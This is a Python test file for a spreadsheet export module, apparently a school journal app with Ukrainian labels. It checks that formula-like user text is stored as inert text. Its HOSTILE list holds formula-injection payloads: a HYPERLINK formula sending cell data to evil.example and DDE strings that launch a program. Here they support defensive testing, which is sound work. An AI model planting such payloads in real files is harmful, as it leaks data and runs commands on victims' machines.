"""Every XLSX export goes through `workbook_bytes`, which keeps user text from acting as
a formula (OWASP "CSV injection")."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from zhurnal.core.exports import new_workbook, titled_sheet, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Докладніше")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _exported() -> bytes:
    workbook, sheet = new_workbook("Зауваження")
    titled_sheet(
        sheet,
        title="Зауваження",
        subtitle="5-А",
        headers=[("Текст", 40), ("Число", 10), ("Дата", 12)],
        rows=[[text, -5, dt.date(2026, 11, 16)] for text in [*HOSTILE, "звичайний текст"]],
    )
    return workbook_bytes(workbook)


def test_cells_that_begin_like_a_formula_are_text_in_the_file() -> None:
    content = _exported()
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    texts = [sheet.cell(row=row, column=1) for row in range(5, 5 + len(HOSTILE))]
    for cell, written in zip(texts, HOSTILE, strict=True):
        assert cell.value == written  # the text is kept exactly
        assert cell.data_type == "s"
        assert cell.quotePrefix  # what Excel stores for a leading apostrophe
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere


def test_numbers_dates_and_ordinary_text_are_left_as_they_are() -> None:
    sheet = load_workbook(io.BytesIO(_exported())).worksheets[0]
    last = 5 + len(HOSTILE)
    assert sheet.cell(row=last, column=1).value == "звичайний текст"
    assert not sheet.cell(row=last, column=1).quotePrefix
    assert sheet.cell(row=5, column=2).value == -5
    assert sheet.cell(row=5, column=2).data_type == "n"
    assert sheet.cell(row=5, column=3).value == dt.datetime(2026, 11, 16)  # noqa: DTZ001 - naive in XLSX
    assert sheet["A1"].value == "Зауваження"


@pytest.mark.parametrize("text", ["", "5-А", "a=b", " =1"])
def test_text_that_does_not_begin_like_a_formula_is_not_marked(text: str) -> None:
    workbook, sheet = new_workbook("S")
    sheet.append([text or None])
    loaded = load_workbook(io.BytesIO(workbook_bytes(workbook))).worksheets[0]
    assert not loaded["A1"].quotePrefix
